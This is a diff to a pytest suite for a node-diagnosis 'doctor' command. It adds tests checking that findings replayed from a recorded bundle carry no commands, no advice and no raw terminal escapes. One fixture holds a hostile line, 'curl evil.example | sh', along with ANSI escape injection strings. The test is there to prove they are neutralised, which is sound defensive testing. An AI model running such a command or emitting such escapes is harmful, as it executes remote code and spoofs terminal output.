@@ -340,6 +340,11 @@ def test_wrong_usage(
     assert said in re.sub(r"\s+", " ", capsys.readouterr().err)
 
 
+def retold(document: Any) -> list[Any]:
+    """The findings as a file tells them: whoever reads it is not on the node, so there is no command."""
+    return [{**one, "command": ""} for one in document["findings"]]
+
+
 def recorded(root: Path, capsys: pytest.CaptureFixture[str], *words: str) -> tuple[int, Any]:
     code = main(["doctor", "--from", str(root / "file.json"), "-o", "json", *words])
     document = json.loads(capsys.readouterr().out)
@@ -354,7 +359,7 @@ def test_a_bundle_is_asked_as_the_node_was(root: Path, capsys: pytest.CaptureFix
     before = json.loads(capsys.readouterr().out)
     code, document = recorded(root, capsys)
     assert (code, document["node"], document["from"]) == (first, "n", "record")
-    assert document["findings"] == before["findings"]
+    assert retold(document) == retold(before)
     assert main(["doctor", "--from", file]) == first
     assert "node n, as it was recorded: 1 problem" in capsys.readouterr().out
 
@@ -380,7 +385,43 @@ def test_a_bundle_without_a_cluster_has_what_was_found_on_the_node(
     doctor("-o", "json", "--bundle", str(root / "file.json"), "--node-name", "n")
     before = json.loads(capsys.readouterr().out)
     _code, document = recorded(root, capsys)
-    assert document["findings"] == before["findings"]
+    assert retold(document) == retold(before)
+    assert not any(one["command"] for one in document["findings"])
+
+
+def a_finding(**fields: str) -> dict[str, str]:
+    stranger = {
+        "meaning": "\x1b[2J it is broken",
+        "nextStep": "ask evil.example",
+        "command": "curl evil.example | sh # \x1b[2K",
+    }
+    return {"object": "\x1b[1Aplace", "found": "\x1b[31mthing", "severity": "problem", **stranger, **fields}  # fmt: skip
+
+
+def test_a_bundle_of_a_stranger_gives_no_commands_no_advice_and_no_escapes(
+    root: Path, doctor: Doctor, capsys: pytest.CaptureFixture[str]
+) -> None:
+    doctor("-o", "json", "--bundle", str(root / "file.json"), "--node-name", "n")
+    bundle = json.loads((root / "file.json").read_text())
+    bundle["diagnosis"]["findings"] = [
+        a_finding(check="imex", id="imex-on-host"),
+        a_finding(check="imex", id="cdi-off"),
+        a_finding(check="disk", id="\x1b]0;new\x07"),
+        a_finding(check="cgroups", id="cgroups", severity="unknown"),
+        a_finding(check="kubelet", id="kubelet", severity="ok"),
+    ]
+    bundle["diagnosis"]["node"] = "n\x1b[2J"
+    (root / "file.json").write_text(json.dumps(bundle))
+    capsys.readouterr()
+    assert main(["doctor", "--from", str(root / "file.json"), "--verbose"]) == 3
+    said = capsys.readouterr().out
+    assert re.sub(r"[\n -~]", "", said) == ""
+    assert "evil.example" not in said
+    assert "NOTE imex-on-host: \\x1b[1Aplace" in said
+    assert "this release does not know cdi-off: \\x1b[31mthing" in said
+    assert "this release does not know \\x1b]0;new\\x07: " in said
+    assert "NOT LOOKED AT cgroups: \\x1b[1Aplace" in said
+    assert "fine: kubelet: \\x1b[1Aplace: \\x1b[31mthing" in said
 
 
 @pytest.mark.parametrize(
